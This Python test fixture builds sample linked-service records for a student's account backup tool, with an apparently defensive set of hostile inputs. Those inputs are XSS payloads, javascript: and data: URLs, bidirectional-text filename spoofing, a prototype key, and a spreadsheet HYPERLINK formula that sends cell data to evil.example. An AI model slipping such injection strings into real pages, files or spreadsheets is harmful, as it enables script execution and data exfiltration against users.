"""Services of one student, as the inventory joins them: every way, state, step and language; some are hostile."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone

from eccs_backup.linked_apps.claims import Kind, Trace
from eccs_backup.linked_apps.inventory import Confidence, Evidence, Linked, State, Step, Way

ACCOUNT = "hanako@g.ecc.u-tokyo.ac.jp"
TOKYO = timezone(timedelta(hours=9))
MADE = datetime(2027, 3, 3, 9, 30, tzinfo=TOKYO)
MAILBOX, PAGE, PASSWORDS = f"mailbox {ACCOUNT}", "page connections.html", "file Chrome Passwords.csv"

G, R, T, N = Way.GOOGLE, Way.REGISTERED, Way.GRANT, Way.NEWSLETTER
SURE, LIKELY, MAYBE = Confidence.CERTAIN, Confidence.LIKELY, Confidence.POSSIBLE
STEPS = {G: Step.SET_PASSWORD, R: Step.CHANGE_ADDRESS, T: Step.RECONNECT, N: Step.RESUBSCRIBE}

SCRIPT = "<script>alert('name')</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
TURNED = "\u202egnp.exe\u202c \u2066mail\u2069"
HALF = "half \ud83d of a letter"
LONG = "very long " * 1000
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def at(year: int, month: int, day: int, hour: int = 12) -> float:
    """A time in Tokyo as Unix seconds."""
    return datetime(year, month, day, hour, tzinfo=TOKYO).timestamp()


def proof(
    kind: Kind,
    quote: str,
    last: float | None = None,
    count: int = 1,
    *,
    reader: str = MAILBOX,
    proven: int | None = None,
) -> Evidence:
    """One piece of evidence, with its newest example."""
    source = "message 18f0c2a7" if reader == MAILBOX else "row 12"
    first = None if last is None else last - 86_400 * 90 * (count - 1)
    known = count if proven is None else proven
    examples = ((source, quote, last),)
    return Evidence(
        reader,
        Trace(
            name="",
            domain="",
            kind=kind,
            number=count,
            proven=known,
            alone=count,
            first=first,
            last=last,
            examples=examples,
        ),
    )


def linked(id: str, name: str, way: Way, *evidence: Evidence, **more: object) -> Linked:
    """A service with what follows from its way and its evidence, unless it is said otherwise."""
    seen = [each.trace.last for each in evidence if each.trace.last is not None]
    values: dict[str, object] = {
        "domain": f"{id}.example" if "." not in id else id,
        "kind": "",
        "ways": frozenset({way}),
        "confidence": SURE,
        "first": min(seen, default=None),
        "last": max(seen, default=None),
        "change": "",
        "without_google": "yes",
        "step": STEPS[way],
    }
    return Linked(id=id, name=name, way=way, evidence=evidence, **{**values, **more})  # type: ignore[arg-type]


def ordinary() -> list[Linked]:
    """What a student's mailbox, saved passwords and connections page show."""
    signed = proof(Kind.SIGN_IN, "Sign in with Google", at(2027, 2, 20), 3, reader=PAGE)
    return [
        linked(
            "notion.so",
            "Notion",
            G,
            signed,
            proof(Kind.SECURITY, "New login from Chrome on Mac", at(2027, 2, 27), 14),
            kind="office",
            change="https://www.notion.so/my-account",
            ways=frozenset({G, R, N}),
        ),
        linked("figma.com", "Figma", G, signed, kind="office", change="https://www.figma.com/settings"),
        linked("miro.com", "Miro", G, signed, without_google="unknown", confidence=LIKELY),
        linked(
            "duolingo.com",
            "Duolingo",
            G,
            proof(Kind.SIGN_IN, "Google Account access", None, reader=PAGE),
            step=Step.NEW_ACCOUNT,
            without_google="no",
        ),
        linked(
            "wantedly.com",
            "Wantedly",
            G,
            signed,
            proof(Kind.NOTICE, "スカウトが届いています", at(2027, 3, 1), 41),
            kind="career",
            change="https://www.wantedly.com/settings",
            ways=frozenset({G, R}),
        ),
        linked(
            "atcoder.jp",
            "AtCoder",
            R,
            proof(Kind.SIGN_UP, "AtCoder ユーザ登録のご案内", at(2024, 5, 2)),
            proof(Kind.PASSWORD, "hanako_u", None, reader=PASSWORDS),
            kind="code",
            change="https://atcoder.jp/settings",
        ),
        linked(
            "github.com",
            "GitHub",
            R,
            proof(Kind.SECURITY, "[GitHub] Please verify your device", at(2027, 2, 28), 9),
            proof(Kind.PASSWORD, "hanako-u", None, reader=PASSWORDS),
            kind="code",
            change="https://github.com/settings/emails",
            ways=frozenset({R, T}),
        ),
        linked(
            "amazon.co.jp",
            "Amazon.co.jp",
            R,
            proof(Kind.RECEIPT, "ご注文の確認 250-1234567-1234567", at(2027, 2, 11), 58),
            kind="shopping",
            change="https://www.amazon.co.jp/ap/cnep",
        ),
        linked(
            "jreast.co.jp",
            "えきねっと",
            R,
            proof(Kind.RECEIPT, "【えきねっと】新幹線の予約が完了しました", at(2026, 12, 27), 6),
            kind="travel",
        ),
        linked(
            "mynavi.jp",
            "マイナビ2027",
            R,
            proof(Kind.SIGN_UP, "マイナビ2027 会員登録完了のお知らせ", at(2025, 6, 1)),
            kind="career",
        ),
        linked(
            "orcid.org",
            "ORCID",
            R,
            proof(Kind.SIGN_UP, "Welcome to ORCID - verify your email address", at(2025, 10, 9)),
            change="https://orcid.org/account",
            kind="research",
        ),
        linked(
            "ieee.org",
            "IEEE",
            R,
            proof(Kind.RECEIPT, "Your IEEE student membership renewal", at(2026, 11, 30), 2),
            kind="research",
        ),
        linked(
            "smbc.co.jp",
            "三井住友銀行",
            R,
            proof(Kind.SECURITY, "ワンタイムパスワードのお知らせ", at(2027, 2, 25), 12, proven=12),
            kind="money",
        ),
        linked(
            "steampowered.com",
            "Steam",
            R,
            proof(Kind.RESET, "Steam アカウントの復旧", at(2026, 1, 17), 2, proven=1),
            confidence=LIKELY,
            kind="leisure",
            change="https://store.steampowered.com/account/",
        ),
        linked(
            "pokemon-go",
            "",
            R,
            proof(Kind.NOTICE, "Community Day is coming", at(2025, 3, 3), 4, proven=0),
            confidence=MAYBE,
        ),
        linked(
            "zoom.us",
            "Zoom",
            R,
            proof(Kind.NOTICE, "Your meeting recording is ready", at(2027, 1, 12), 7),
            state=State.MOVED,
            marked=at(2027, 1, 20),
            arrived=3,
            note="new address entered, but mail still comes",
            change="https://zoom.us/profile",
        ),
        linked(
            "slack.com",
            "Slack",
            R,
            proof(Kind.SIGN_UP, "Slack でメールアドレスを確認", at(2024, 4, 10)),
            state=State.MOVED,
            marked=at(2027, 2, 1),
            note="研究室のワークスペースは個人のアドレスに変更済み",
        ),
        linked(
            "overleaf.com",
            "Overleaf",
            T,
            proof(Kind.GRANT, "Access to Google Drive", None, reader=PAGE),
            kind="research",
            change="https://www.overleaf.com/user/settings",
            ways=frozenset({T, R}),
        ),
        linked(
            "calendly.com",
            "Calendly",
            T,
            proof(Kind.GRANT, "See, edit and delete your calendars", at(2026, 9, 9), reader=PAGE),
        ),
        linked(
            "peatix.com",
            "Peatix",
            N,
            proof(Kind.NEWSLETTER, "今週のおすすめイベント", at(2027, 3, 2), 131),
            confidence=LIKELY,
        ),
        linked(
            "nature.com",
            "Nature Briefing",
            N,
            proof(Kind.NEWSLETTER, "Nature Briefing: daily round-up", at(2027, 3, 3, 7), 480),
        ),
        linked(
            "hotpepper.jp",
            "ホットペッパー",
            N,
            proof(Kind.NEWSLETTER, "クーポンのお知らせ", at(2026, 8, 8), 22),
            state=State.IGNORED,
            marked=at(2027, 2, 2),
        ),
        linked(
            "tabelog.com",
            "食べログ",
            R,
            proof(Kind.NOTICE, "会員規約改定のお知らせ", at(2026, 4, 1)),
            state=State.CLOSED,
            marked=at(2027, 2, 14),
            note="退会した",
        ),
    ]


def hostile() -> list[Linked]:
    """Names, quotes, notes and addresses that want to be more than text."""
    return [
        linked(
            SCRIPT,
            SCRIPT,
            G,
            proof(Kind.SIGN_IN, f"</script>{SCRIPT}", at(2027, 1, 1)),
            domain=IMAGE,
            note=f"</td>{IMAGE}",
            kind="<b>bold</b>",
            change="javascript:alert('link')",
        ),
        linked("image", IMAGE, R, proof(Kind.RECEIPT, IMAGE, 1e18, reader=IMAGE), change="https://user@evil.example/"),
        linked(
            "turned",
            TURNED,
            R,
            proof(Kind.NOTICE, TURNED, float("nan"), proven=0),
            note="a\x00b\x1b[31mc\rd\te\nf\u2028g",
            change=f"https://evil.example/{TURNED}",
            confidence=MAYBE,
        ),
        linked(
            HALF,
            HALF,
            T,
            proof(Kind.GRANT, HALF, -1e300, reader=HALF),
            note=HALF,
            domain=HALF,
            change=f"https://{HALF}",
        ),
        linked("long", LONG, N, proof(Kind.NEWSLETTER, LONG, at(2026, 2, 2)), note="x" * 10_000, confidence=MAYBE),
        linked(
            "__proto__",
            FORMULA,
            N,
            proof(Kind.NEWSLETTER, "\t=1+1", at(2026, 2, 3)),
            note="＝1+1",
            domain="@SUM(A1)",
            change='data:text/html,<script>alert("data")</script>',
        ),
    ]


def everything() -> list[Linked]:
    """All of them."""
    return [*ordinary(), *hostile()]
